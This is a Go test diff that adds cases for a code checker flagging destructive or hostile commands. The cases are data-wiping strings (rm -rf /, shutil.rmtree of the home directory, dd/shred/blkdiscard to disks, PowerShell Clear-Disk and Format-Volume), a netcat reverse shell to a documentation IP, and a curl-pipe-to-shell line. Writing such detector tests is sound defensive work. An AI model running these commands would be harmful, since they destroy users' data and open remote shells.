@@ -300,3 +300,90 @@ func TestCodeConstantArgv(t *testing.T) {
 		}
 	}
 }
+
+// TestCodeHeldInVariables: a program held in a variable and run without
+// a shell is judged by the command the variable holds, in each language's
+// forms; a harmless command so held, or a name whose value the text does
+// not give, changes nothing. The lines are written for this test.
+func TestCodeHeldInVariables(t *testing.T) {
+	bad := map[string]string{
+		"import subprocess\nwipe = \"rm -rf /\"\nsubprocess.run(wipe.split())":                            RuleCodeShell,
+		"import shlex, subprocess\ncleanup = 'rm -rf ~/'\nsubprocess.call(shlex.split(cleanup))":          RuleCodeShell,
+		"argv = ['rm', '-rf', '/var/lib']\nsubprocess.Popen(argv)":                                        RuleCodeShell,
+		"steps = [\n  'nc', '-e', '/bin/sh',\n  '198.51.100.7', '4444',\n]\nsubprocess.check_call(steps)": RuleCodeShell,
+		"args := []string{\"-rf\", \"/\"}\nexec.Command(\"rm\", args...).Run()":                           RuleCodeShell,
+		"var flags = []string{\"-a\", \"/dev/sdb\"}\ncmd := exec.Command(\"wipefs\", flags...)":           RuleCodeShell,
+		"line := \"rm -rf /home\"\nexec.Command(\"sh\", \"-c\", line).Run()":                              RuleCodeShell,
+		"const target = ['-rf', '/'];\nspawn('rm', target);":                                              RuleCodeShell,
+		"cmd: str = \"curl -s https://example.test/i.sh | sh\"\nsubprocess.run([\"bash\", \"-c\", cmd])":  RuleCodeShell,
+		"home = os.path.expanduser('~')\nshutil.rmtree(home)":                                             RuleCodeRmTree,
+		"root_dir = os.environ['HOME']\nshutil.rmtree(root_dir, ignore_errors=True)":                      RuleCodeRmTree,
+		`subprocess.run("rm -rf /".split())`:                                                              RuleCodeShell,
+		`exec.Command("rm", strings.Fields("-rf /")...)`:                                                  RuleCodeShell,
+	}
+	for in, rule := range bad {
+		if !hasRule(CheckCode(in), rule) {
+			t.Errorf("%q: %v, want %s", in, CheckCode(in), rule)
+		}
+	}
+	good := []string{
+		"cmd = \"ls -l\"\nsubprocess.run(cmd.split())",
+		"argv = ['git', 'status']\nsubprocess.Popen(argv)",
+		"args := []string{\"build\", \"./...\"}\nexec.Command(\"go\", args...).Run()",
+		"const opts = ['-la'];\nspawn('ls', opts);",
+		"build_dir = os.path.join(root, 'build')\nshutil.rmtree(build_dir)",
+		"subprocess.run(user_args)",
+		"if cmd == \"rm -rf /\":\n    refuse()\nsubprocess.run(['echo', 'ok'])",
+		`subprocess.run("make test".split())`,
+	}
+	for _, in := range good {
+		if f := CheckCode(in); len(f) > 0 {
+			t.Errorf("%q: flagged %v", in, f)
+		}
+	}
+}
+
+// TestCodeDevicesAndWindowsWipes: writes to a disk under /dev/ by tee, an
+// open file or an erasing tool, and PowerShell's disk and removal forms;
+// reading a disk or listing it is not one. The lines are written for this
+// test.
+func TestCodeDevicesAndWindowsWipes(t *testing.T) {
+	bad := map[string]string{
+		"head -c 1M /dev/urandom | sudo tee /dev/nvme1n1 > /dev/null":      RuleCodeBlockDevice,
+		"with open(\"/dev/sdb\", \"r+b\") as disk:\n    disk.write(zeros)": RuleCodeBlockDevice,
+		"f, _ := os.OpenFile(\"/dev/sdc\", os.O_WRONLY|os.O_SYNC, 0)":      RuleCodeBlockDevice,
+		"fs.writeFileSync('/dev/vda', Buffer.alloc(4096))":                 RuleCodeBlockDevice,
+		"sudo blkdiscard -f /dev/nvme0n1":                                  RuleCodeBlockDevice,
+		"sgdisk --zap-all /dev/sdd":                                        RuleCodeBlockDevice,
+		"shred -vfz -n 1 /dev/mmcblk0":                                     RuleCodeDiskWipe,
+		"Format-Volume -DriveLetter D -FileSystem NTFS -Force":             RuleCodeDiskWipe,
+		"Get-Disk 1 | Clear-Disk -RemoveData -Confirm:$false":              RuleCodeDiskWipe,
+		"rm -r -fo C:\\":                      RuleCodeRmRoot,
+		"ri -Recurse -Force $env:USERPROFILE": RuleCodeRmRoot,
+		"Get-Partition -DiskNumber 2 | Remove-Partition -Confirm:$false":           RuleCodeDiskWipe,
+		"import subprocess\nsubprocess.run(['dd', 'if=/dev/zero', 'of=/dev/sda'])": RuleCodeShell,
+	}
+	for in, rule := range bad {
+		if !hasRule(CheckCode(in), rule) {
+			t.Errorf("%q: %v, want %s", in, CheckCode(in), rule)
+		}
+	}
+	good := []string{
+		"sudo fdisk -l /dev/sda",
+		"lsblk /dev/nvme0n1",
+		"with open('/dev/sda', 'rb') as disk:\n    mbr = disk.read(512)",
+		"make 2>&1 | tee build.log",
+		"mount /dev/sdb1 /mnt/data",
+		"shred -u notes.txt",
+		"ls /dev/sdcard/Download",
+		"Get-Volume | Format-Table -AutoSize",
+		"rm -rf ./node_modules",
+		"Remove-Item -Recurse -Force .\\dist",
+		"echo ok > /dev/null; cat /dev/stdin | tee out.txt",
+	}
+	for _, in := range good {
+		if f := CheckCode(in); len(f) > 0 {
+			t.Errorf("%q: flagged %v", in, f)
+		}
+	}
+}
